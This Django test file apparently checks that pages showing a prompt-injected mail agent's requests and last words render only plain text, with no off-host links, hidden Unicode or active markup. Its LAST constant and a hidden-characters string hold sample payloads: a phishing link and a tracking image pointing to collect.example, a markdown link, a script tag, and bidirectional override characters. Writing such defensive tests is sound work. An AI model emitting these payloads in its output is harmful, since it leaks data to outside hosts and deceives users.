"""What a person is shown of a hijacked model's wishes: words. Nothing leads away, nothing hides, nothing is markup."""

import re
from html import unescape

import pytest
from django.http import HttpResponse
from django.urls import reverse

from agents.policy.language.invisible import marked
from agents.queue.models import Task
from tests.agents.hijacked import attacked
from tests.agents.injections.index import ALL
from tests.agents.injections.wishes import Injection
from tests.agents.scripted import on
from tests.cast import as_

pytestmark = pytest.mark.django_db
__all__ = ["on"]
WITH_LINKS = [one for one in ALL if one.file[:2] in {"09", "13", "14", "24", "25", "26", "27"}]
LAST = (
    '<a href="https://collect.example/x">Sign in</a> <img src="https://collect.example/p.png?KESTREL"> '
    "[Sign in](https://collect.example/x) <script>alert(1)</script> \u202elacol\u202c"
)


def leads_away(page: HttpResponse) -> list[str]:
    """Addresses of another host in attributes."""
    assert page.status_code == 200
    attributes = re.findall(
        r"""\s(?:href|src|action|hx-\w+|content)=["']([^"']*)["']""", page.content.decode()
    )
    return [one for one in attributes if re.search(r"//|mailto:|javascript:|data:", unescape(one))]


def hidden(page: HttpResponse) -> list[str]:
    return [sign for sign, hides in marked(page.content.decode()) if hides]


@pytest.mark.parametrize("mail", WITH_LINKS, ids=str)
def test_an_ask_leads_nowhere(cast, on, mail: Injection):
    with attacked(cast, on, mail) as victim:
        victim.run()
    pages = [as_(cast.mia).get(ask.get_absolute_url()) for ask in victim.asks()]
    assert pages
    assert [leads_away(page) for page in pages] == [[]] * len(pages)


@pytest.mark.parametrize("mail", [one for one in ALL if one.file[:2] in {"09", "10", "24"}], ids=str)
def test_an_ask_hides_nothing(cast, on, mail: Injection):
    with attacked(cast, on, mail) as victim:
        victim.run()
    asks = victim.asks()
    assert asks
    for ask in asks:
        for address in (ask.get_absolute_url(), reverse("queue:call", args=[ask.call_id])):
            assert not hidden(as_(cast.mia).get(address))


def test_a_task_of_hidden_words_hides_nothing_on_any_page(cast, on):
    hides = "safe\u202eexe.txt\u200b \U000e0041\ufe01"
    with attacked(cast, on, ALL[0]) as victim:
        victim.model.last = f"Done: {hides}"
        Task.objects.filter(pk=victim.task.pk).update(instruction=f"Read my mail. {hides}")
        victim.refuse_all()
    calls = victim.task.calls.all()
    victim.task.calls.update(
        summary=hides, result={"subject": hides}, reasons=[{"code": "x", "params": {"earlier": hides}}]
    )
    Task.objects.filter(pk=victim.task.pk).update(reason={"code": "x", "params": {"earlier": hides}})
    pages = [victim.task.get_absolute_url(), reverse("queue:list"), reverse("home")]
    pages += [reverse("queue:call", args=[one.pk]) for one in calls[:3]]
    pages += [reverse("queue:step", args=[one.step_id]) for one in calls[:3]]
    for address in pages:
        page = as_(cast.mia).get(address)
        assert page.status_code == 200
        assert not hidden(page), address
    assert "safe⟨U+202E⟩exe.txt⟨U+200B⟩" in as_(cast.mia).get(pages[0]).content.decode()


def test_the_last_words_of_a_hijacked_model_are_text(cast, on):
    with attacked(cast, on, ALL[0]) as victim:
        victim.model.last = LAST
        victim.refuse_all()
    page = as_(cast.mia).get(victim.task.get_absolute_url())
    assert leads_away(page) == []
    body = page.content.decode()
    assert "Sign in" in body
    assert "<script>alert" not in body
    assert "<img" not in body
